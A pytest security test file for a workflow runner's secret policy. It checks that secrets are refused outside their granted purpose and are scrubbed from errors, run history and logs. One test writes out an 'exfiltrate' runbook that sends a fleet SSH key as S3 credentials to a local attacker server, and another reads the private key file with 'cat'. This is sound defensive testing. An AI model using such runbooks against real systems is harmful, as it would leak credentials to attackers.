# ruff: noqa: F811  (pytest fixtures imported from the engine and SSH fixtures by name)
"""Worker policy, secrets rule: a secret is used only for the purpose it is granted for, and a
value an activity resolved never leaves it in an error, a result or a log line (issue #13).

The attack: `access_key_id: {secret: lab-ssh-key}` with an `endpoint_url` the attacker runs
sends the fleet's SSH key in a SigV4 header, and botocore echoes it into the activity error.
Here that is refused before any request (the attacker's server records nothing) and no byte of
the key is anywhere in the run's history.
"""

from __future__ import annotations

import logging
import textwrap
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from temporalio.client import Client

from pitstop.policy.scrub import ScrubLogFilter, SecretValues, record_secret, secret_scope
from tests.integration.ssh.conftest import lab, ssh_lab, sshd_binary  # noqa: F401
from tests.integration.ssh.lab import KEY_SECRET, SshLab
from tests.policy_site import PolicyLayer
from tests.security.policy_fixtures import engine_worker, run, run_history_json, start_run, tasks  # noqa: F401
from tests.security.recording_http import RecordingServer
from tests.sshd import client_key

pytestmark = pytest.mark.integration

ACCESS_KEY = "AKIAPITSTOPTESTKEY7Q2X"
INVALID_KEY_REPLY = (
    "<?xml version='1.0' encoding='UTF-8'?><Error><Code>InvalidAccessKeyId</Code><Message>The AWS Access "
    f"Key Id {ACCESS_KEY} you provided does not exist in our records.</Message>"
    f"<AWSAccessKeyId>{ACCESS_KEY}</AWSAccessKeyId></Error>"
).encode()


@pytest.fixture
def attacker() -> Iterator[RecordingServer]:
    server = RecordingServer(status=403, body=INVALID_KEY_REPLY).start()
    yield server
    server.stop()


@pytest.fixture
def fleet_key(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> str:
    """The fleet's SSH key as the worker holds it: secret `lab-ssh-key`, granted as an SSH key."""
    key = client_key(tmp_path_factory.mktemp("fleet-key")).private_text
    monkeypatch.setenv("PITSTOP_SECRET_LAB_SSH_KEY", key)
    return key


def _key_fragments(key: str) -> list[str]:
    """The key whole, and every line of its body: none may appear anywhere."""
    return [key, *(line for line in key.splitlines() if len(line) >= 16 and not line.startswith("-----"))]


def _s3_task(name: str, endpoint: str, secret: str) -> str:
    return textwrap.indent(
        textwrap.dedent(
            f"""
            - name: {name}
              storage.latest:
                bucket: loot
                cluster: anything
                endpoint_url: {endpoint}
                addressing_style: path
                access_key_id: {{secret: {secret}}}
                secret_access_key: {{secret: {secret}}}
              ignore_errors: true
            """
        ),
        "  ",
    )


async def test_the_ssh_key_as_s3_credentials_is_refused_before_any_request_and_never_in_history(
    start_run: Any,
    temporal_client: Client,
    worker_policy: PolicyLayer,
    attacker: RecordingServer,
    fleet_key: str,
) -> None:
    worker_policy.grant("lab-ssh-key", "ssh_key", clusters=["lab"])
    runbook = "name: exfiltrate\nhosts: localhost\ntasks:" + _s3_task("unlisted", attacker.url, "lab-ssh-key")
    first = await start_run(runbook)
    report = await first.result()
    unlisted = tasks(report)["unlisted"]
    assert unlisted.status == "ignored"
    assert unlisted.msg == (
        f"PolicyViolation: storage.latest: S3 endpoint {attacker.url} is not one this worker may use "
        f"(policy s3.endpoints: {_listed(worker_policy)}); "
        "ask the worker's operator to add it to PITSTOP_WORKER_POLICY"
    )

    # Even at an endpoint the worker may use, the SSH key is not S3 credentials.
    worker_policy.allow_s3(attacker.url, ["loot"])
    second = await start_run(runbook.replace("unlisted", "listed"))
    listed = tasks(await second.result())["listed"]
    assert listed.status == "ignored"
    assert listed.msg.startswith(
        "PolicyViolation: storage.latest: access_key_id: secret 'lab-ssh-key' may only be used as the "
        "SSH key of a cluster's nodes, not as S3 credentials (policy secrets.lab-ssh-key.purpose: ssh_key, "
    )

    assert attacker.received == [], "refused before any request was signed or sent"
    for handle in (first, second):
        history = await run_history_json(temporal_client, handle)
        assert "lab-ssh-key" in history  # the reference is there; the value is not
        assert [f for f in _key_fragments(fleet_key) if f in history] == []


def _listed(layer: PolicyLayer) -> str:
    endpoints = layer.site.document().get("s3", {}).get("endpoints", [])
    return ", ".join(e["url"] for e in endpoints) or "none"


async def test_a_granted_secret_echoed_by_the_server_is_scrubbed_from_the_error_and_the_logs(
    start_run: Any,
    temporal_client: Client,
    worker_policy: PolicyLayer,
    attacker: RecordingServer,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    monkeypatch.setenv("PITSTOP_SECRET_BACKUP_S3_ID", ACCESS_KEY)
    monkeypatch.setenv("PITSTOP_SECRET_BACKUP_S3_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYPITSTOPKEY")
    worker_policy.allow_s3(attacker.url, ["loot"]).grant(
        "backup-s3", "s3_credentials", endpoints=[attacker.url]
    )
    runbook = textwrap.dedent(
        f"""
        name: scrubbed
        hosts: localhost
        tasks:
          - name: listing
            storage.latest:
              bucket: loot
              cluster: anything
              endpoint_url: {attacker.url}
              addressing_style: path
              access_key_id: {{secret: backup-s3, key: id}}
              secret_access_key: {{secret: backup-s3, key: key}}
        """
    )
    # The worker's own log, as `python worker.py` configures it (a scrubbing filter on its
    # handlers), at DEBUG: botocore then logs each request's headers, the signature included.
    log_file = tmp_path / "worker.log"
    with worker_log(log_file):
        handle = await start_run(runbook)
        report = await handle.result()

    # The server got signed requests (the secret was granted for it) and echoed the key back.
    assert attacker.received and ACCESS_KEY in attacker.received[0].headers["Authorization"]
    listing = tasks(report)["listing"]
    assert listing.status == "failed"
    assert (
        "InvalidAccessKeyId: The AWS Access Key Id [redacted secret 'backup-s3'] you provided" in listing.msg
    )
    history = await run_history_json(temporal_client, handle)
    assert ACCESS_KEY not in history and "wJalrXUtnFEMI" not in history
    assert "[redacted secret 'backup-s3']" in history
    logged = _read(log_file)
    assert "Credential=[redacted secret 'backup-s3']/" in logged, "botocore logged the signed request"
    assert ACCESS_KEY not in logged


async def test_a_secret_printed_by_a_node_is_scrubbed_from_the_result(
    start_run: Any, temporal_client: Client, lab: SshLab
) -> None:
    # The lab's node is this machine, where the key file of the fleet also lies (a bastion would
    # hold it too): `cat` prints it, and the module's result must not carry it.
    runbook = textwrap.dedent(
        f"""
        name: printed
        hosts: nodes
        tasks:
          - name: read the key on the node
            ssh.command: cat {lab.key.path}
            register: printed
        """
    )
    inventory = textwrap.dedent(
        f"""
        cluster:
          name: lab
          ssh: {{user: root, key: {{secret: {KEY_SECRET}}}}}
        all:
          children:
            nodes:
              hosts:
                node-a: {{ansible_host: 127.0.0.1, ansible_port: {lab.node.port}}}
        """
    )
    handle = await start_run(runbook, inventory)
    report = await handle.result()
    printed = tasks(report)["read the key on the node"]
    assert printed.status == "changed", printed.msg
    history = await run_history_json(temporal_client, handle)
    assert f"[redacted secret '{KEY_SECRET}']" in history
    assert [f for f in _key_fragments(lab.key.private_text) if f in history] == []


@contextmanager
def worker_log(path: Path) -> Iterator[None]:
    handler = logging.FileHandler(path)
    handler.addFilter(ScrubLogFilter())
    root = logging.getLogger()
    level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    try:
        yield
    finally:
        root.removeHandler(handler)
        root.setLevel(level)
        handler.close()


def _read(path: Path) -> str:
    return path.read_text()


def test_values_are_scrubbed_whole_escaped_and_line_by_line() -> None:
    key = "-----BEGIN KEY-----\nAAAAB3NzaC1yc2EAAAADAQABAAABAQ\nC7mZ2vLq9sT0uY\n-----END KEY-----\n"
    values = SecretValues()
    values.add("fleet", key)
    for leaked in (key, repr(key), key.replace("\n", "\\n"), "line: AAAAB3NzaC1yc2EAAAADAQABAAABAQ here"):
        assert "AAAAB3Nz" not in values.scrub(leaked)
        assert "[redacted secret 'fleet']" in values.scrub(leaked)
    short = SecretValues()
    short.add("pin", "ab")
    assert short.scrub("about a bus") == "about a bus", "values too short to be secrets mangle nothing"


def test_log_lines_inside_an_activity_scope_are_scrubbed(tmp_path: Path) -> None:
    logger = logging.getLogger("pitstop.test.scrub")
    log_file = tmp_path / "worker.log"
    handler = logging.FileHandler(log_file)
    handler.addFilter(ScrubLogFilter())
    logger.addHandler(handler)
    try:
        with secret_scope():
            record_secret("backup-s3", ACCESS_KEY)
            logger.warning("S3 said: bad key %s", ACCESS_KEY)
            try:
                raise ValueError(f"quoted {ACCESS_KEY}")
            except ValueError:
                logger.exception("failed")
        logger.warning("outside any scope nothing is recorded: %s", "plain")
    finally:
        logger.removeHandler(handler)
        handler.close()
    text = log_file.read_text()
    assert ACCESS_KEY not in text
    assert text.count("[redacted secret 'backup-s3']") == 2 and "plain" in text
